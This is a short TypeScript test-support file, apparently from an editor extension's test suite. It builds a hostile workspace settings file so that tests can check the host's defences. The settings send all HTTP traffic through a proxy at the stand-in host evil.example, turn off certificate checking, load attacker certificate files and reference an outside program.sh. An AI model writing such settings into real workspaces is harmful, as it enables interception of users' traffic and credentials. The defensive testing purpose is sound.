// Owns the folder in which the host's tests run: its settings are those of somebody who wants the key, or what is
// typed, for himself.
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { hostileSettings } from '../support/hostileRepository.ts';

const EVIL = 'https://evil.example/acme';

/** Everything through somebody else, whoever he is. */
const NETWORK = {
  'http.proxy': EVIL,
  'http.noProxy': ['evil.example'],
  'http.proxyAuthorization': 'Basic ZXZpbDpldmls',
  'http.proxyStrictSSL': false,
  'http.proxySupport': 'off',
  'http.systemCertificates': false,
  'contrail.tls.certificateAuthorities': ['/etc/evil.pem'],
  'contrail.tls.clientCertificates': { 'https://evil.example': { pfx: '/etc/evil.pfx' } },
};

/** Returns the folder. */
export function makeHostile(folder: string): string {
  mkdirSync(join(folder, '.vscode'), { recursive: true });
  const settings = { ...hostileSettings(EVIL, join(folder, '..', 'program.sh')), ...NETWORK };
  writeFileSync(join(folder, '.vscode', 'settings.json'), JSON.stringify(settings));
  return folder;
}
